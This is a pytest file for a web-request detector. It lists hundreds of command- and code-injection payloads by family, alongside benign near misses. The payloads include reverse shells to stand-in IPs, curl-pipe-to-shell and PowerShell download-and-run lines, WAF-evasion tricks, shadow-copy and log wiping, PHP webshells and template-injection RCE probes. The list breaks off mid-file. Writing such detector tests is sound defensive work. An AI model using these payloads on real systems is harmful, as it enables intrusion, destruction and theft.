"""Command and code injection (#12): each family's payloads are caught through a whole HTTP request, and
benign near misses (prose about commands, code in posts, shell-like names, harmless template text, math)
are not."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from kubeguard.net.detect.code import code_injection
from kubeguard.net.detect.http import inspect_http_request
from kubeguard.net.detect.prefilter import needs_values
from kubeguard.net.detect.shell import command_injection
from kubeguard.net.types import HttpRequest

CMDI = "HTTP command injection"
CODE = "HTTP code injection"
HEAD = [("Host", "shop.example.com"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")]


def in_query(value: str) -> HttpRequest:
    return HttpRequest("GET", "/a?q=" + quote(value, safe=""), headers=HEAD)


def in_json(value: str) -> HttpRequest:
    import json

    body = json.dumps({"comment": value}).encode()
    return HttpRequest("POST", "/api", headers=[*HEAD, ("Content-Type", "application/json")], body=body,
                       content_length=[str(len(body))])


def rules(req: HttpRequest) -> set[str]:
    found = {d.rule for d in inspect_http_request(req)}
    assert found == {d.rule for d in inspect_http_request(req, prefilter=False)}  # the prefilter keeps it
    return found


COMMANDS = {
    "windows": ["127.0.0.1 | dir", "x & net user", "x && net localgroup administrators", "x | type C:\\boot.ini",
                "x & reg query HKLM\\Software\\Microsoft", "x;netsh firewall show state", "x | systeminfo",
                "x & ipconfig /all", "x | tasklist /svc", "x & whoami /priv", "x|DIR C:\\",
                "x & FOR /F %i IN ('whoami') DO echo %i", "x & powershell -nop -c iex(iwr http://10.0.0.9/a)",
                "x & certutil -urlcache -f http://10.0.0.9/a.exe a.exe", "x| ver", "x & w^h^o^a^m^i"],
    "quote break": ["' whoami", "\" whoami", "';whoami;'", "\";id;\"", "x';ls -la;'", "a\" | id #",
                    "x' && cat /etc/passwd #"],
    "newline": ["x\nid", "x\ncat /etc/passwd", "x\\nid\\n", "127.0.0.1\\nwhoami", "a;id\\n", "\\n/bin/ls -al\\n",
                "x\r\nuname -a"],
    "substitution": ["$(whoami)", "x$(id)", "`id`", "x`cat /etc/passwd`", "$(curl http://10.0.0.9/a|sh)",
                     "$(cat$(id))", "`uname -a`", "<(id)"],
    "evasion": ["/???/??t", "/???/b??h /etc/passwd",
                ";w'h'o'am'i", ";c\\at /etc/passwd", ";cat${IFS}/etc/passwd", ";{cat,/etc/passwd}",
                ";/???/c?t /etc/passwd", ";/usr/bin/id", ";wh$@oami", "|/bin/bash -i"],
    "mail protocol": ["x@example.com\r\nRCPT TO:<victim@example.org>", "\r\nMAIL FROM:<a@b.com>", "\r\nDATA",
                      "\r\nA1 QUIT", "\r\na001 EXAMINE INBOX", "\r\nd store 2 +FLAGS (\\Deleted)\n",
                      "\r\nRETR 123", "\r\nlist 3", "INBOX\r\nA2 LOGIN admin secret"],
    "assembled": ["f(){ f & f; };f", "f(){ f() | f(); }; f", "() {", "{id,}", "{,ifconfig,eth0}",
                  "a=nc&&$a -nlvp 555", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "';htop'"],
    "client escapes": ["c99 -wrapper sh,-c,curl google.com .", "1;.sh whoami", ";\\n.shell nc 10.0.0.1 6666 -e sh\\n",
                       "\\ls", "bin/visudo", "'cscli' alerts list\n", '"ll" /var/www/', "time; ansible-config dump\n",
                       "alias -p jzfrx=id\n", "alias eennvv=env&eennvv whoami"],
    "line ended": ["visudo\n", "nohup who\n", "time who\n", "cscli alerts list\n", "pip3 install something\n",
                   "ansible-console\n", "chef-client -t 1.1.1.1\n"],
    "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
             "; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow",
             "ls -la /", "() { :; }; /bin/bash -c id", "whoami", "; uname -a", "which nc", "; ps aux", "|ps axjf",
             "; ip addr", "&& ip r", "; ip -br link"],
    # cmdi16: shapes written from the dev split's misses
    "wider vocabulary": [";irb<<<1 2", ";lastlogin -u admin", ";rmt --version", ";ssh-copy-id user@server", ";top",
                         "x;uconv -f utf-8 -t utf-8 /etc/?asswd", "& sysinfo", "' tcpdump -i eth0"],
    "runner at the start": ["'time' who", '"time" who', "ti''me who"],
    "alias definitions": ["alias 'letter'=curl", "alias alias='curl'", "alias ls-al='ls -al'\n", "alias a=b",
                          "alias +g+ a=b"],
    "cmd.exe if": ["if (AA) == (AA) echo same", "if (%1)==(LTRS) CD C:\\WORD\\LTRS", "if/i a==b foo"],
    "brace affixes": ["{l,-lh}s", "c{a,oun}t", "{,ifconfig}", "{,$'whoami',}", "{n$u\\c$u,-nlvp,777}\n"],
    "expansions": ["~+", "~+5", "~-1", "${PATH#{}/}", "${x#{}}", "cat ${HOME:0:1}etc${HOME:0:1}passwd",
                   "cat ${test//hh??hm/}"],
    # the shell's special parameters as noise inside words; '+' for spaces when the value has none; variables
    # assigned quoted, escaped or as a glob; `at` scheduling a job
    "noise": ["c$$at /et$$c/pas$$swd", "x;c$?at /et$_c/pas$!swd", "www.example.com;c$_at+/et$_c/pas$_swd",
              ";cat+/etc/passwd", "c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4/etc/passwd", ";at 2:00 \"echo test\"",
              "| at now < /tmp/job", ";+id", "|+id", "&&+whoami", ";+cat+/e't'*/pa'?s'wd"],
    # CRS's unix-shell and Windows command words that are not English, PowerShell's cmdlets
    "crs words": [";rsync -a /etc/ x@10.0.0.9:", "|| bzip2 -d /tmp/x.bz2", "$(psql -c 'select 1')", ";iostat",
                  "& robocopy C:\\Users \\\\x\\s /E", "| VSSADMIN delete shadows /all /quiet",
                  "&& bcdedit /set {default} recoveryenabled No", "; Get-ChildItem -Path C:\\",
                  "| Invoke-Command -ScriptBlock {x}", "\nSet-ExecutionPolicy -ExecutionPolicy Bypass",
                  # English-word commands with command-line arguments after a separator; history; $SHELL
                  "; patch -p1 < x.diff", "& format c: /q", "| where /r c:\\ *.txt", "!-1", "x;!!", "x;$SHELL",
                  "`${BASH}`",
                  # CRS's evasion prefixes before a command: an assignment, an unset variable as a spacer, `!`, eval
                  ";A=1 ifconfig", ";A=1 cat /etc/passwd", "x;$a ifconfig", "x;$u cat /etc/passwd", ";! ifconfig",
                  "x;eval ifconfig", "x;env -i nc -e /bin/sh 10.0.0.1 4444",
                  # LOLBAS binaries (CRS 932370)
                  "x;certoc -LoadDLL x.dll", "| wsl -e id", "& MpCmdRun -DownloadFile -url http://x/a -path c:\\a"],
    # CRS's command prefixes (regex-assembly/include/unix-shell-evasion-prefix.ra, windows-commands-prefix.ra): an
    # equals sign, a function's body, `command`, cmd.exe's `@` and `,` delimiters, %COMSPEC%, %SYSTEMROOT% paths
    "prefixes": ["x=ifconfig", "a=uname -a", "=ls -la", "=id", "a() ( ifconfig; ); a", "f() { id; }; f",
                 ";command ifconfig", "x;command -p cat /etc/passwd", "&@ipconfig /all", "&,ipconfig",
                 "|%COMSPEC% /c whoami", "& %SYSTEMROOT%\\system32\\ipconfig"],
    # service managers and cluster / cloud clients with their subcommands after a separator; su to root; dd's
    # operands; a word whose every letter is escaped
    "clients": [";systemctl stop firewalld", ";service ssh stop", ";kubectl get secrets -A", "&& aws s3 ls",
                "| redis-cli flushall", ";su root", ";dd if=/dev/zero of=/dev/sda", ";i\\f\\c\\o\\n\\f\\i\\g"],
    # filter probes: a command in mixed case (a filter that compares case-sensitively), behind `$` or `!`
    "probes": ["'TiMe Sh -c whoami", ";cAt /etc/passwd", ";$ifconfig", ";!whoami"],
    # interpreters and compilers under the versioned names distributions install them as
    "versioned": ["x; python3.11 -c \"import os\"", "| gcc-12 -o /tmp/x /tmp/x.c", "x; perl5.36 -e \"print 1\"",
                  "&& php8.2 -r \"system('id');\""],
    "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                    'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
    # WAF-bypass shapes: globs in a brace list's items, an invisible character, a '+' glued to a path beside
    # spaces, backslashes escaped once more, a here-string fed to the shell, a pipe into an interpreter,
    # a binary directory spelled as a glob
    "bypass shapes": [";{\\c''\\a\"\"t,/e''*?/?a?s??}", "; cat /et\u200b?/\u200bpa\u200b??wd",
                      "; cat$u+/etc$u/passwd$u", "; c\\\\a\\\\t \\\\/\\\\e\\\\t\\\\c/\\\\p\\\\a\\\\s\\\\swd",
                      "$0<<<$'\\154\\163'", "x;bash <<< id", "echo | php7.4", "curl -s http://10.0.0.9/x | python3",
                      "/?in/cat /et?/passw?", "x\\n\\033[2curl http://10.0.0.9/a.txt",
                      # arithmetic on literals (a scanner's evaluation probe); a glob spelling a sensitive file
                      "x;echo $((3482*7301))", "$[7*7]", "$((16#41))", "/e?c/pa[s]swd", "/[e]tc/shadow",
                      "/usr/[a-z]in/bash -i",
                      # a brace list with a comment item or a `$"..."` item; a substitution of any word; a bracket
                      # spelling a system directory; `/./` inside a globbed binary directory
                      "{,echo,#test}", "{,$\"whoami\",}", "$(foo)", "x$(foo)", ";<(foo)", ">(foo)", "$((foo))",
                      "/e[t]c", "/[p]roc/self", ";/s?in/./ifconfig",
                      # a program's name with an evasion inside it, whatever its arguments; a glob assigned and run
                      ';py""thon', "p'y'thon", ";cur[l] x", "|c\\at x", "cmd=g=adduse[r];$g pizza",
                      # sqlite's file and code dot-commands; alias names with POSIX's extra characters; cmd.exe's
                      # switch glued to a program; shadow copies deleted; IF CMDEXTVERSION
                      ";.load /tmp/x.so", "1; .output /var/www/x.php", ";.databases", "alias a%=b", "alias a,b=c",
                      "&cmd/c whoami", "|dir/s", "&ipconfig/all", "&vssadmin delete shadows /all /quiet",
                      "IF CMDEXTVERSION 2 echo x",
                      # cmd.exe's comma delimiters, a variable's substring, switches with values, attrib's flags,
                      # event logs cleared, PowerShell running cmd.exe by its variable
                      "&cmd,/c,dir", "&%COMSPEC:~-16,1%", "&cipher /w:c:\\", "&attrib +h +s x.exe",
                      "&wevtutil cl security", "&rd /s /q c:\\x", "& $env:COMSPEC /c dir",
                      # a prefix assignment of a quoted value before the command
                      ";A='x y' ifconfig", "|A=\"x\" whoami",
                      # short programs of CRS's unix list: socket statistics, a hex dump
                      ";ss -tlnp", "|hd /etc/passwd"],
    # commix's tampers: a braced variable nothing set as noise at a word's start too, a SUB byte after a
    # separator, cmd.exe's carets after a slash, a space or a quote and quoted between letters, `cmd+/c` with
    # '+' for spaces, '+' for spaces beside CR LF, a backslashed word with its version after it
    "commix tampers": [";${I}ec${I}h${I}o x$(${I}id)", '&&${QNV}p${QNV}y${QNV}t${QNV}h${QNV}o${QNV}n3 -c "print(1)"',
                       "&\x1awhoami",
                       "|^f^o^r /^f \"\"t\"^\"o\"^\"k\"^\"e\"^\"n\"^\"s\"=*\" %^i ^i^n ('c^md /c \"ver\"') d^o x",
                       "for+/f+\"tokens=*\"+%i+in+('cmd+/c+\"ver\"')+do+@set+/p+=+x%ix",
                       "\r\necho+x`echo+x``ps+aux``echo+x`x", '\\p\\y\\t\\h\\o\\n3 -c "print(1)"'],
    # the scanners' probes (skipfish, w3af): a control character before a command, localhost as a ping's target
    "scanner probes": ["\x03 /bin/sleep 5 \r", "ping -c 8 localhost", "ping -n 4 localhost"],
    # exploit requests (afrog's pocs, nikto's checks, blazehttp's cases, wfuzz's list): `expr` on literals, `echo`
    # of one random token, a network client sent to any host name, a command given a substitution after a
    # separator; an option that runs a command (git's pager, zip's -TT); Perl's `open` running `id|`
    "exploit probes": [";expr 4821 - 7356;", "'\nexpr 4821 - 7356\n'", "|expr 12 \\* 34", ";echo 4821",
                       "cls_mode_login\necho 4821\n", "x;echo q7w2e9r4;", ";ping d8w2n5.oast.example;",
                       "x||nslookup a.b.interact.sh||", "|| echo `123456789`", "; echo `id`",
                       "--open-files-in-pager=touch /tmp/success;", "-TvTT=id>shell.php # a.zip",
                       "x --upload-pack=$(id)", "id|", "id\x00|", "/usr/bin/id|",
                       # a positional parameter past the ninth as noise (xray's marker `r1${r2}r3`)
                       "$(echo 4821${7356}9153^2847>webLib/2847)", "| echo 4821${7356}9153^2847"],
    # shelling's terminators and separators: a NUL, an emoji or cmd.exe's `::` ending the command line, SUB (0x1a) as
    # cmd.exe's separator, `::` glued after `&`; a network client reaching a host name as a value starts
    "shelling": ["ping -c25 localhost\x00", "ping -n 25 127.0.0.2\U0001f4a9", "ping\t-n\t25\t127.0.0.2::",
                 "test\x1aping -n 25 127.0.0.2\x1atest", "test'\x1a{ping,25,localhost}\x1a'",
                 "&::nslookup k7q2.x9f3.oast.example&::test", "test&::ping\t-c25\tlocalhost&::test",
                 "nslookup k7q2.x9f3.oast.example", "nslookup\x0bk7q2.x9f3.oast.example&"],
    # a separator the value starts with, then a command whatever its arguments (the injection's only shape)
    "leading separator": [";htop x y", "|vi (x", "\"; uname food", "\nls foo", "&& uptime please", "|| df x"],
}
COMMAND_NEAR_MISSES = [
    # carets, braced variables, SUB bytes and '+' in text (the commix tampers' readings find no command here)
    "press ^C to stop", "use ^f ^o ^r loops", "`${a}b`", "the ${AB}cd value", "data\x1aend", "echo+hello",
    "hello\r\nworld+and+more", 'ab"^"cd',
    "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
    "Smartwatch Models & More", "hp|gen|top|women", "MMB|SC|C1|MakeMyBook", "cat food", "find a store near me",
    "set up your account", "I type fast; echo chambers are bad", "2+2;+3", "notes; ip phone", "I use dotnet daily",
    "sort=uptime", "type=id", "name=cat food", "f(x) (see below)", "ask; command line", "mail a@b.com, dir",
    "E-mail: x@y.z; @ping me", "ps: flux; ps wax", "kubectl get pods", "aws s3 ls",
    "the service; service desk", "one; ps relax", "iPhone; Top sellers", "McDonald; Id card", "getId; cat food",
    "price;$100", "a;$id = 1", "Q&A: who are we?", "Rock & Roll",
    "dogs & cats", "id", "dir", "type", "sort=id", "ping pong", "sleep well", "print-ready.pdf",
    "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
    "Terms & Conditions; Privacy", "back-end & front-end", "C:\\new folder\\notes.txt",
    # line breaks in free text: mail verbs in prose, a recipe line, a command word ending a sentence
    "Line one\nI select the blue one", "Thanks\nData attached", "hello\nlist of items", "See you\nUser guide",
    "Cut orange quarters into crosswise slices about 1/8-inch thick.\n", "Go to store.\nAt the store, shop.",
    "function f(){ return 1 };", "x() { return y }", "() => {}", "{id,name}", "q={id,name}", "{ls}",
    "a=1&b=2&c=$5", "price=5 and $x", "Total=5; $total",
    "alias names are fun", "alias=john", "aliases: a=b", "'quoted' word here", "files; .sh scripts", "C:\\ls",
    "Use chef; chef is nice", "I love ansible", "'hello' world",
    "* The GNU `nroff` test in `configure` now works when `/bin/sh` is `ash`.",
    "pip\n", "top\n", "date\n", "Dear team,\r\nHelp is on the way", "Notes:\nquit smoking", "a\nstore 2 apples",
    # cmdi16 near misses: a program's path or name as a value starts, a tag list, a runner in prose, alias talk,
    # code comparisons, plain brace lists and file sets, an approximate number, quotes inside prose words
    "/usr/bin/tcpdump", "git clone https://github.com/x/y.git", "hp|gen|top|women", "Tom & top", "time who knows",
    "alias of the user", "if (a == b) { run() }", "if you (really) want", "file{1,2}.txt", "{id,name,ts}",
    "~5 minutes", "~ 10", "${price}", "${user.name}", "rock'n'roll", "'cat' food", "don't 'go'",
    "ssh-agent is running", "reg add is how a script writes a key to the registry on each start",
    "net user growth was strong this year and more came later on",
    "java is a language; rsync is a tool", "; done", "| view", "x; view the page", "a|list|b",
    "`man --recode`, but", "`man`'s default", "dimension31=not set;x=1", "a; A=1 b", "Price; $5 off",
    "Wow; ! great", "We; $HOME is set", "Hello!! World", "wow!-1", "$SHELL_NAME",
    "I use tmux and psql daily", "; Get well soon", "xcopy",
    "the robocopy docs", "Get-ChildItem",
    "python3.11", "php7.4-fpm", "a; gcc-12", "python3.11 is out; node18 next", "Versions: python3.11, perl5.36",
    "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
    "Java | PHP | Python", "skills: cat | php", "cat|php", "price: 5$+/month", "C:\\\\Users\\\\me\\\\notes.txt",
    "/?in/notes.txt", "{a,b*}", "Hello\u200bworld; cat food", "price $[5]", "a $((x))", "/api/v1/items?id=5",
    "/files/[draft]/a.txt", "what? /home/me/notes", "/docs/[v2]/etc/readme",
    "\\033[2J hello world", "\\033[1mbold\\033[0m",
    "$(this).hide()", "$(document)", "$(el).val()", "price >(cost)", "$(CC) -o x", "/items[0]", "{a,#b}",
    "a $(price) b", "/docs/[t]ips", "x[0] = 1", ";arr[1]=2", "rock'n'roll; jazz", "say \"\"hi\"\"",
    "see; .load times", "a;.5 b", "net/http is a Go package", "x; net/http", "and/or", "tcp/ip; dir/",
    "R&D; rd x", "Q&A, comma", "set +e", "Price: 5+x", "50%:~ish", "rd", "name=\"John Smith\" wrote",
    ";title=\"A B\" cat food", "a; ss", "SS; pg 13", "the ss boat",
    # fresh6 near misses: numbers and words after echo, expr in prose, host names in prose, a substitution in a
    # markdown span, options and pipes in text
    "Amazon|Echo 360", "hi; echo hello", "x; echo 12", "echo 4821", "expr 1 + 2", "see; expr is a tool",
    "a; expr x + y", "Tom; see me.later", "x; host index.html", "contact | Host Europe.de", "ping me.later",
    "use `make` here; echo `x` ok", "name|", "a|b|", "id|name", "select --exec=foo", "--execute=true",
    "x --rsh is an option", "the -TT= flag", "use --open-files-in-pager with git grep",
    "Price ${100} now", "${12345}", "a; ${2024} b",
    "ping me \U0001f600", "Call me; ping \U0001f600", "fe80::", "a&::b", "R&::D notes", "data\x1aend",
    "nslookup example", "ping me.later", "dig this.site",
    "| date | price |", "|date|", "&sort", "&type=id", "; Done", "| Date", ";-)", "; see below", "\nDate: today",
    "\ntime is money", "\nless is more", "; sort by date", "\nwho are you", "; touch base", "| more info",
    "; kill two birds", "\ntop sellers", "; watch this", "; tail end", "\nsleep well",
]
CODE_PAYLOADS = {
    "php": ["$_=(\"%28\"^\"[\").(\"%33\"^\"[\");", "$_=\"`{{{\"^\"?<>/\";", "$__++;$__++;$___.=$__;",
            "$_=[];$_=@\"$_\";", "('ex'.'ec')('id')",
            "define('f', [['sys' . 'tem']]); (f)[0][0]('id')", "[ passthru ][ 0 ]('id')",
            "<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
            "eval($_POST['x'])", "phpinfo()", "x';phpinfo();//", "${@print(md5(1))}", "{${phpinfo()}}",
            "passthru('whoami')", "shell_exec(\"id\")", "assert($_REQUEST[1])", "exec /*x*/ ('ls')",
            "base64_decode('aWQ=')", "file_put_contents('a.php', $_POST['d'])", "$_GET['f']($_GET['a'])",
            # variable functions, quoted / parenthesised names called, comments and odd spacing before the call
            "$a(1)", "$$b(2)", "$o->$m()", "$f\r\n (23)", "$a //x\n()", "$x[5]['d'] /*y*/ (17)", "$k=@$s_f(22)",
            '"system"(ls);', "(system)(whoami)", '"\\x73y\\x73tem"(ls);', "exec\t(blah)", "exec  (blah)",
            "exec#\n (blah)", "symlink//c\n()", "touch/*a\r\nb*/()", "pi\x0b()", "FILE\r\n()",
            "pg_query(", "array_diff (", "<?=1?>", "<?xml :echo 1;", "$ {$a}", "$ {'fdf'}", "${'_V'.'AR'}",
            # php.ini directives set by a whole value; a session file named by its path; a [\php] tag
            "auto_prepend_file=/tmp/x.txt", "engine=true", "opcache.jit=1255", 'allow_url_include = "On"',
            "/var/lib/php/sessions/sess_0123456789abcdefghij", "C:\\temp\\sess_abcdefghij0123456789", "x[\\php]",
            # PHP's own functions called (CRS's 933150-933153 names less libc and other languages' names), PHP-only
            # variables, PHP's data: wrapper
            "htmlspecialchars($x)", "strtolower(abc)", "get_class_methods($o)", "gzdecode /**/(x)", "json_encode($a);",
            "$GLOBALS", "$GLOBALS['x']", "$_COOKIE", "$HTTP_RAW_POST_DATA", "$http_response_header",
            "data://text/plain;base64,PD9waHA=", "data:text/plain,<b>x</b>", "bzip2://x",
            # an obfuscated variable called, an empty call as a statement, a short tag opened at the end, a PHP
            # script's name with dots after its extension
            "$OOO0000O0(1)", "eval();", "system()", "<? ", "x.php.", "shell.php5...", "a/b.phtml.....",
            # a PHP variable among a shared name's arguments; a variable called after a tab or with a code argument;
            # PHP's short tag followed by `xml` and no declaration
            "explode(',', $a)", "unpack('N', $x)", "printf(\"%s\", $x)", "$x\t(1)", "$f ('id')", "<?xml 1",
            # a name of CRS 933160's list called glued to one word or variable
            "substr(x)", "mkdir($d)", "printf(foo)", "glob(x)",
            # CRS 933210's split and indexed calls, reflection and file classes, include without parentheses, a
            # value that ends by opening PHP
            '(sys)"tem"(ls);', '{0}("ls")', "new ReflectionFunction('system')", "new SplFileObject('/etc/passwd')",
            "require_once 'x.php';", "<?", "x=1 <?=",
            # names PHP shares with libc or other languages, called bare with a PHP variable or a single-quoted
            # path (CRS 933160's list); a PHP statement printing a command's output
            "mkdir($d)", "rtrim($x)", "opendir('/etc')", "file('../../config.php')", "print `ls`;",
            "strip_tags($_GET['a'])",
            # a quote escaped once more as a call's argument (afrog's IceWarp probe)
            "system(\\'ipconfig\\')\\", "passthru(\\\"id\\\")",
            # a statement closed by PHP's closing tag (vulhub's ThinkPHP lang RCE, seacms in afrog, PHPIDS)
            "phpinfo()?> shell.php", "exit;?>", "x=1; ?>",
            # ThinkPHP's classes named in a route, a method of theirs called (afrog, xray)
            "/index/\\think\\app/invokefunction", "index/\\think\\Container/invokefunction",
            "k3v9q2zt/\\think\\Request/input", "x/think\\\\Error/appError", "\\think\\view\\driver\\php/display"],
    "node": ["x = root.process; x.mainModule.require('fs')",
             "console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");",
             "while(42)", "while(Object)", "while('a')", "module.exports=x",
             "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}',
             # CRS 934100's indicators; Ruby's command runners
             "this.constructor.constructor('return process')()", "process.readFileSync('/etc/passwd')",
             "require.resolve('x')", "function(){return 1}", "Process.spawn('id')", "IO.popen('id')", "%x{id}"],
    "runtime": ["subprocess.call(['id'])", "FileSystemXmlApplicationContext('http://127.0.0.1/wb.xml')",
                "subprocess.check_output('id', shell=True)",
                "new java.lang.ProcessBuilder(\"id\").start()", "Class.forName('java.lang.Runtime')",
                "Runtime.getRuntime().exec(\"id\")", "T(java.lang.System).getenv()",
                "\"\".getClass().forName(\"java.util.Date\")", "exec.Command(\"id\").Output()",
                # Groovy's String.execute() (OFBiz, Jenkins), Lua's / Python's os.execute on a literal (APISIX), a Java
                # class made by its full name in a script (afrog, xray, vulhub)
                "throw new Exception('id'.execute().text);", "\"touch /tmp/x\".execute()", "x.execute().text",
                "function(vars) os.execute('curl x'); return true end", "os.system(\"id\")",
                "var a=new org.springframework.expression.spel.standard.SpelExpressionParser();",
                "new java.util.Scanner(x).next()", "new javax.script.ScriptEngineManager()",
                # ASP / ASP.NET as AntSword sends it: eval of a request value, JScript.NET's eval(..., "unsafe"), COM
                # objects that run commands or touch files, .NET's process and file classes
                "eval request(\"ant\")", "Execute(Request.Form(\"x\"))",
                "eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(x)),\"unsafe\");",
                "Set o = CreateObject(\"WScript.Shell\")", "System.Diagnostics.Process.Start(\"cmd\")",
                "System.IO.File.WriteAllText(p, t)"],
    "perl": ["@{[ ]}", "@@{[system whoami]}", "x @ {[ `id` ]}"],
    "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
            '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
    "template": ["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
                 "{{self}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime()}",
                 "{{request.application.__globals__}}", "{% import os %}{{os.popen('id').read()}}",
                 "${class.getClassLoader()}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id')}",
                 "{{lipsum.__globals__.os.popen('id')}}", "{{ cycler.__init__.__globals__.os }}",
                 "{php}echo `id`;{/php}", "{$smarty.version}", "<%= `ls` %>", "<%= File.open('/etc/passwd').read %>",
                 "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}",
                 "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>",
                 "${(6?lower_abc+18?lower_abc+5?lower_abc)?new()}", "${(9?upper_abc+4?upper_abc)}",
                 # FreeMarker spelling a long name (its closing brace far away)
                 "${(6?lower_abc+" + "18?lower_abc+" * 40 + "5?lower_abc)}",
                 # the probes SSTI scanners send to tell engines apart (tplmap, SSTImap, TInjA)
                 "${89}<#--78-->${56}", "{89}{*78*}{56}", "{math equation=\"7 * 7\"}", "mm{@if cond=\"1\"}gs{/if}",
                 "AA{!c!}AA", "${typeof(89)+78}", "(89*78).to_s", "print(89+78);", "echo PHP_OS;",
                 "'KL'+1*(@java.lang.Integer@valueOf('2000000000')+2)", "#set($c=89*78)${c}", "#evaluate(\"a\")",
                 "{{ 7 | times:7 }}", "{% widthratio 7 1 7 %}", "{{printf \"%s\" \"x\"}}", "{% if 1 == 2 %}",
                 "#{RUBY_PLATFORM}", "<%= %x(id) %>",
                 # the polyglot probe, EL's implicit objects, Thymeleaf / Razor's @{...}
                 "${{<%[%'\"}}%\\.", "${sessionScope}", "#{facesContext.externalContext}", "@{7*7}",
                 # a method called inside {{ }}: the engine runs it
                 "{{ someString.toUPPERCASE() }}", "{{ user.getClass() }}",
                 # FreeMarker reaching the class loader, Thymeleaf's preprocessing
                 "<#assign cl=article.class.protectionDomain.classLoader>", "#{selection.__${sel.code}__}",
                 # Python's scopes called, a class constant through Twig, Django's request environment, Pug's
                 # unescaped interpolation of arithmetic
                 "{{globals()}}", "${locals()}", "{{constant('Twig_Environment::VERSION')}}", "{{request.META}}",
                 "!{7*7}",
                 # OGNL's %{...} arithmetic, a product of long literals printed (ZAP, w3af), Go's print
                 "%{7193*4021}", "print 28763*4196403;", "Response.Write(28763*4196403)",
                 '{{print "2614" "1450"}}',
                 # a product of long literals thrown or printed by printf (spider-flow, ECShop in afrog / xray)
                 "}throw(436206*444125);{", "printf(151122*159041);",
                 # EL with a letter escaped between `$` and `{` (Nexus's validator message bypass)
                 "$\\A{233*233*233}", "nxadmin$\\B{233*233}", "$\\c{''.getClass()}",
                 # server page tags and directives: ColdFusion, ASP.NET / JSP, HFS macros, DedeCMS's runphp
                 "<cfexecute name='id' outputFile='/tmp/x'></cfexecute>", "<cfscript>writeOutput(1)</cfscript>",
                 '<%@ Register Tagprefix="x" Namespace="System.Web.UI" %>', '<%@ page import="java.io.*" %>',
                 '<jsp:include page="evil.jsp" />', "<jsp:scriptlet>x</jsp:scriptlet>",
                 "{.exec|ipconfig|timeout=5|out=abc.}", "{dede:field name='source' runphp='yes'}echo 1;{/dede:field}",
                 # OGNL reached from a broken-out string, OGNL's context variables (Confluence, Struts)
                 "\\u0027+{752966+760885}+\\u0027", "'+{233*233}+'",
                 "aaa\\u0027+#request.get(\\u0027.KEY_velocity.struts2.context\\u0027)",
                 "#request\\u005b\\u0027x\\u0027\\u005d", "findValue(#parameters.x,{})",
                 "#_memberAccess['allowStaticMethodAccess']", "#context[#parameters.obj[0]].getWriter()",
                 # SpEL's type reference to any package (wy876/POC), FreeMarker's assign of a class, Twig's include(),
                 # XWiki's script macros (websitesVulnerableToSSTI, wy876/POC)
                 "__${T(groovy.lang.GroovyClassLoader).newInstance()}__::.x", "${T(org.x.StreamUtils).copy(a)}",
                 "<#assign proc=Runtime> ${ proc }", "{{include(\"index\")}}", "{{ template_from_string('x') }}",
                 "}}}{{async async=false}}{{groovy}}println(1){{/groovy}}{{/async}}",
                 "{{python}}print(1){{/python}}",
                 # VBScript's eval of a value inside ASP's <% %> (AntSword's xxxxdog shell)
                 "<%Function xxxx(str) eval str End Function%>", "<% Execute s %>", "<%eval request(\"ant\")%>"],
    "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                 "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
}
CODE_NEAR_MISSES = [
    "precision=2 digits after the point", "the engine=true flag", "sess_0123456789abcdefghijk", "smtp server down",
    "Hello {{ first_name }}", "{{ user.name }}", "{% if user %}Hi{% endif %}", "${price}", "Total: ${total}",
    "7*7=49", "3 * 4 + 5", "the file system (ext4) is fast", "eval (the evaluation) is due", "print (color)",
    "my system (as designed)", "<?xml version=\"1.0\"?><a/>", "{\"a\": {\"b\": 1}}", "100% <b>bold</b>",
    "Use <!-- comments --> in HTML", "#{hashtag}", "email me at a@b.com", "{{count}} items",
    "include the file (see below)", "a > b", "saved to report.pdf", "echo location", "x.php?id=1",
    "Our pricing: $5 * 3 seats", "Run the system check (weekly)", "I said 'exec' twice",
    "costs $5 (approx)", "$TSLA(+5%) today", "stream_recording (2).mp4", "item #1\n(2 pcs)", "see (below)",
    "array_diff (see the manual) compares arrays", "C# (C sharp)", "Cost: $ 5 {net}", "the \"system\" (ours)",
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>", "(note)(2)", "$a (dollar a)",
    "`require('myModule2')`.", "the process. Then", "{% if user.is_admin %}", "a process [1] ran",
    "${count?c}", "${name?lower_case}", "${abc}",
    "htmlspecialchars() escapes markup", "Use json_encode() to", "strlen(s) in C", "sprintf(buf, x)",
